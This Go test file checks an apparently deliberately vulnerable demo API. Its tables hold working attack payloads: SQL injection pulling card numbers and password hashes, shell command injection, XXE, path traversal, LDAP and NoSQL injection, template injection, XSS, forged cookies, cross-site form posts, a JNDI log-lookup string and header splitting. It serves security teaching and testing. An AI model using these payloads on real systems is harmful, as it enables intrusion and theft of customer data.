package demo_test

import (
	"bufio"
	"context"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/pb33f/libopenapi"

	"github.com/gatehouse-api/gatehouse/internal/demo"
)

func start(t *testing.T, dir string) *httptest.Server {
	t.Helper()
	api, err := demo.New(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(api.Handler())
	t.Cleanup(func() {
		if err := api.Close(); err != nil { // first: it ends the event streams
			t.Error(err)
		}
		srv.Close()
	})
	return srv
}

func call(t *testing.T, srv *httptest.Server, method, target, body string) (int, string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, method, srv.URL+target, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(b)
}

// Each case is a hole that the gateway's tour closes: it has to be there first.
func TestTheBareAPIIsAsVulnerableAsItSays(t *testing.T) {
	srv := start(t, t.TempDir())
	for _, tt := range []struct {
		name, method, target, body string
		status                     int
		want                       string
	}{
		{"SQL injection reads another table", "GET", "/orders?q=zz%27%29+UNION+SELECT+id,name,email,1,credit,password_hash,card_number,1,role+FROM+customers--%20", "", 200, "4111111111111111"},
		{"SQL injection through the sort order", "GET", "/orders?limit=1&sort=CASE+WHEN+%28SELECT+role+FROM+customers+WHERE+id%3D%27carol%27%29%3D%27manager%27+THEN+total+ELSE+-total+END", "", 200, "ord_1003"},
		{"another's order is shown, margin included", "GET", "/orders/ord_1004", "", 200, `"internal_margin":260`},
		{"another's orders are listed", "GET", "/customers/bob/orders", "", 200, "ord_1006"},
		{"another's password hash is shown", "GET", "/customers/bob", "", 200, `"password_hash":"6cf6`},
		{"another's card is shown", "GET", "/customers/bob", "", 200, `"card_number":"5555555555554444"`},
		{"a caller makes herself manager", "PATCH", "/customers/alice", `{"role":"manager","credit":1000000}`, 200, `"role":"manager"`},
		{"SQL injection through the name of a field", "PATCH", "/customers/alice", `{"phone = (SELECT card_number FROM customers WHERE id = 'carol'), name":"x"}`, 200, `"phone":"378282246310005"`},
		{"a refund of more than was paid", "POST", "/orders/ord_1002/refunds", `{"amount":99999,"reason":"because"}`, 201, `"amount":99999`},
		{"a negative refund", "POST", "/orders/ord_1002/refunds", `{"amount":-5}`, 201, `"amount":-5`},
		{"an order in another's name at a price of one's own", "POST", "/orders", `{"customer_id":"bob","item":"Gold","quantity":-1,"total":0,"status":"delivered"}`, 201, `"status":"delivered"`},
		{"HTML is reflected", "GET", "/greet?name=%3Cscript%3Ealert(1)%3C/script%3E", "", 200, "<script>alert(1)</script>"},
		{"a shell runs what it is given", "POST", "/tools/ping", `{"host":"x; echo $((6*7))"}`, 200, "42"},
		{"SQL injection through a field of the body", "POST", "/shop/orders/search", `{"text":"zz' UNION SELECT id, name, card_number, 1, credit, role, email, 1 FROM customers -- "}`, 200, "378282246310005"},
		{"a shell runs what a field says", "POST", "/shop/tools/label", `{"text":"x; echo $((6*7))"}`, 200, "42"},
		{"a template sees other customers", "POST", "/shop/tools/letter", `{"customer":"alice","text":"{{.all}}"}`, 200, "378282246310005"},
		{"a template computes", "POST", "/shop/tools/letter", `{"customer":"alice","text":"{{mul 6 7}}"}`, 200, "42"},
		{"a path leads out of the folder", "GET", "/shop/documents?file=../partners.txt", "", 200, "correct-horse-4711"},
		{"a path that is encoded twice, too", "GET", "/shop/documents?file=%252e%252e%255cpartners.txt", "", 200, "correct-horse-4711"},
		{"an LDAP filter is closed and another begun", "GET", "/shop/directory?name=*)(id=*))(%7C(id=*", "", 200, `"carol"`},
		{"an external entity reads a file", "POST", "/shop/orders/import", `<!DOCTYPE order [<!ENTITY x SYSTEM "file:///partners.txt">]><order><item>&x;</item></order>`, 200, "correct-horse-4711"},
		{"an operator is a password", "POST", "/shop/login", `{"email":{"$gt":""},"password":{"$ne":""}}`, 200, `"customer":"alice"`},
		{"a review is markup", "POST", "/shop/reviews/preview", `{"title":"x","text":"<img src=x onerror=alert(1)>"}`, 200, "<img src=x onerror=alert(1)>"},
		{"the folder is listed", "GET", "/files/", "", 200, "partners.txt"},
		{"a developer's page is there", "GET", "/debug/env", "", 200, "DB_PASSWORD"},
		{"TRACE tells the headers", "TRACE", "/orders", "", 200, "Accept-Encoding"},
		{"an export without login", "GET", "/admin/export", "", 200, "378282246310005"},
		{"an error shows SQL and stack", "GET", "/orders?status=%27", "", 500, "SELECT * FROM orders"},
		{"an error shows the stack", "POST", "/orders", `{`, 500, "internal/demo/demo.go"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if status, body := call(t, srv, tt.method, tt.target, tt.body); status != tt.status || !strings.Contains(body, tt.want) {
				t.Errorf("got %d %s, want %d with %q", status, body, tt.status, tt.want)
			}
		})
	}
}

func TestTheAPIAlsoWorks(t *testing.T) {
	dir := t.TempDir()
	srv := start(t, dir)
	for _, tt := range []struct {
		name, method, target, body string
		status                     int
		want                       string
	}{
		{"health", "GET", "/health", "", 200, `"ok"`},
		{"a page of orders", "GET", "/orders?limit=2&offset=1&sort=total", "", 200, `"count":2`},
		{"orders of a status", "GET", "/orders?status=cancelled", "", 200, `"count":1`},
		{"orders with a word", "GET", "/orders?q=desk", "", 200, `"count":2`},
		{"no such order", "GET", "/orders/ord_9999", "", 404, "not found"},
		{"no such customer", "GET", "/customers/dave", "", 404, "not found"},
		{"a change of phone", "PATCH", "/customers/bob", `{"phone":"+44 20 1111111"}`, 200, "+44 20 1111111"},
		{"no change", "PATCH", "/customers/bob", `{}`, 200, "+44 20 1111111"},
		{"a greeting", "GET", "/greet?name=Ann", "", 200, "Hello, Ann!"},
		{"a ping", "POST", "/tools/ping", `{"host":"example.com"}`, 200, "pinging example.com"},
		{"a body without end", "PATCH", "/customers/bob", `{"name":"` + strings.Repeat("x", 2<<20) + `"}`, 500, "too large"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if status, body := call(t, srv, tt.method, tt.target, tt.body); status != tt.status || !strings.Contains(body, tt.want) {
				t.Errorf("got %d %s, want %d with %q", status, body, tt.status, tt.want)
			}
		})
	}
	t.Run("what was changed is still there after a restart", func(t *testing.T) {
		if _, body := call(t, start(t, dir), "GET", "/customers/bob", ""); !strings.Contains(body, "+44 20 1111111") {
			t.Errorf("got %s", body)
		}
	})
}

// Sessions of the API's own, and what other sites' pages do with them.
func TestTheBareAPIBelievesItsCookies(t *testing.T) {
	srv := start(t, t.TempDir())
	for _, tt := range []struct {
		name, method, target, contentType, body string
		header, value                           string
		want                                    string
	}{
		{"anybody makes carol's session", "GET", "/shop/me", "", "", "Cookie", "session=Y2Fyb2w", `"id":"carol"`},
		{"a form of another site changes an address", "POST", "/shop/me/email", "application/x-www-form-urlencoded", "email=mallory%40evil.example", "Cookie", "session=Y2Fyb2w", "mallory@evil.example"},
		{"a form that looks like JSON, too", "POST", "/shop/me/email", "text/plain", `{"email":"mallory2@evil.example"}`, "Cookie", "session=Y2Fyb2w", "mallory2@evil.example"},
		{"the log looks up what a caller names", "GET", "/health", "", "", "User-Agent", "${${lower:J}ndi:ldap://ADDRESS/x}", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			l, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer l.Close()
			req, err := http.NewRequestWithContext(t.Context(), tt.method, srv.URL+tt.target, strings.NewReader(tt.body))
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("Content-Type", tt.contentType)
			req.Header.Set(tt.header, strings.ReplaceAll(tt.value, "ADDRESS", l.Addr().String()))
			resp, err := srv.Client().Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			if b, err := io.ReadAll(resp.Body); err != nil || !strings.Contains(string(b), tt.want) {
				t.Errorf("got %s %v, want %q", b, err, tt.want)
			}
			if tt.want == "" {
				if err := l.(*net.TCPListener).SetDeadline(time.Now().Add(5 * time.Second)); err != nil {
					t.Fatal(err)
				}
				if _, err := l.Accept(); err != nil {
					t.Errorf("nobody called: %v", err)
				}
			}
		})
	}
}

func TestTheBareAPISplitsAnswers(t *testing.T) {
	srv := start(t, t.TempDir())
	resp, err := srv.Client().Transport.RoundTrip(httptest.NewRequestWithContext(t.Context(), "GET", srv.URL+"/shop/go?to=x%0d%0aX-Planted:+yes", nil))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.Header.Get("X-Planted") != "yes" {
		t.Errorf("got %v", resp.Header)
	}
}

func TestOrdersAreStreamed(t *testing.T) {
	srv := start(t, t.TempDir())
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, "GET", srv.URL+"/orders/events", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	br := bufio.NewReader(resp.Body)
	if line, err := br.ReadString('\n'); err != nil || line != ": listening\n" {
		t.Fatal(line, err)
	}
	call(t, srv, "POST", "/orders", `{"customer_id":"carol","item":"Whisk","quantity":1,"total":9}`)
	for {
		line, err := br.ReadString('\n')
		if err != nil {
			t.Fatal(err)
		}
		if data, ok := strings.CutPrefix(line, "data: "); ok {
			var order map[string]any
			if err := json.Unmarshal([]byte(data), &order); err != nil || order["item"] != "Whisk" {
				t.Fatal(data, err)
			}
			return
		}
	}
}

// The API may be broken; the machine it runs on may not.
func TestTheMachineIsGuarded(t *testing.T) {
	api, err := demo.New(t.Context(), t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer api.Close()
	for _, tt := range []struct {
		name string
		edit func(*http.Request)
		want int
	}{
		{"a caller on loopback is served", func(*http.Request) {}, 200},
		{"over IPv6 too", func(r *http.Request) { r.RemoteAddr, r.Host = "[::1]:5", "[::1]:80" }, 200},
		{"a caller from elsewhere is refused", func(r *http.Request) { r.RemoteAddr = "192.0.2.1:5" }, 403},
		{"a caller without an address is refused", func(r *http.Request) { r.RemoteAddr = "" }, 403},
		{"another host name is refused", func(r *http.Request) { r.Host = "evil.example:80" }, 403},
		{"another address is refused", func(r *http.Request) { r.Host = "192.0.2.1" }, 403},
		{"a name in a query that looks like loopback is refused", func(r *http.Request) { r.Host = "127.0.0.1.evil.example" }, 403},
		{"a page of another origin is refused", func(r *http.Request) { r.Header.Set("Origin", "https://evil.example") }, 403},
		{"a cross-site fetch is refused", func(r *http.Request) { r.Header.Set("Sec-Fetch-Site", "cross-site") }, 403},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := httptest.NewRequest("POST", "/tools/ping", strings.NewReader(`{"host":"x"}`))
			r.RemoteAddr, r.Host = "127.0.0.1:5", "127.0.0.1:80"
			tt.edit(r)
			w := httptest.NewRecorder()
			api.Handler().ServeHTTP(w, r)
			if w.Code != tt.want {
				t.Errorf("got %d %s", w.Code, w.Body)
			}
		})
	}
}

func TestTheShellCannotWriteFilesOrStay(t *testing.T) {
	srv := start(t, t.TempDir())
	path := filepath.Join(t.TempDir(), "written")
	call(t, srv, "POST", "/tools/ping", `{"host":"x; echo hello > `+path+`"}`)
	if b, err := os.ReadFile(path); err == nil && len(b) > 0 {
		t.Errorf("the shell wrote %q", b)
	}
	if status, body := call(t, srv, "POST", "/tools/ping", `{"host":"x; sleep 61"}`); status != 500 {
		t.Errorf("got %d %s", status, body)
	}
	if _, body := call(t, srv, "POST", "/tools/ping", `{"host":"x; ps ax -o args"}`); strings.Contains(body, "sleep 61\\n") {
		t.Errorf("what the shell started is still there: %s", body)
	}
}

func TestTheDocumentsNameEveryOperation(t *testing.T) {
	srv := start(t, t.TempDir())
	seen := 0
	for _, name := range []string{"orders.openapi.yaml", "shop.openapi.yaml"} {
		b, err := demo.OpenAPI.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		seen += served(t, srv, name, b)
	}
	if seen != 24 {
		t.Errorf("the documents name %d operations, the API has 24", seen)
	}
}

func served(t *testing.T, srv *httptest.Server, name string, spec []byte) (seen int) {
	t.Helper()
	doc, err := libopenapi.NewDocument(spec)
	if err != nil {
		t.Fatal(err)
	}
	model, err := doc.BuildV3Model()
	if err != nil {
		t.Fatal(err)
	}
	for path, item := range model.Model.Paths.PathItems.FromOldest() {
		for method, op := range item.GetOperations().FromOldest() {
			seen++
			if op.OperationId == "" || op.Security == nil && len(model.Model.Security) == 0 {
				t.Errorf("%s %s has no id or no security", method, path)
			}
			if strings.HasSuffix(path, "/events") {
				continue // does not end; see TestOrdersAreStreamed
			}
			if name == "shop.openapi.yaml" {
				path = "/shop" + path
			}
			if path == "/shop/go" {
				continue // has an answer of its own; see TestTheBareAPISplitsAnswers
			}
			target := strings.NewReplacer("{orderId}", "ord_1001", "{customerId}", "bob").Replace(path)
			status, body := call(t, srv, strings.ToUpper(method), target, "{}")
			if (status == 404 || status == 405) && !strings.Contains(body, `"not found"`) {
				t.Errorf("%s %s is not served: %d %s", method, path, status, body)
			}
		}
	}
	return seen
}
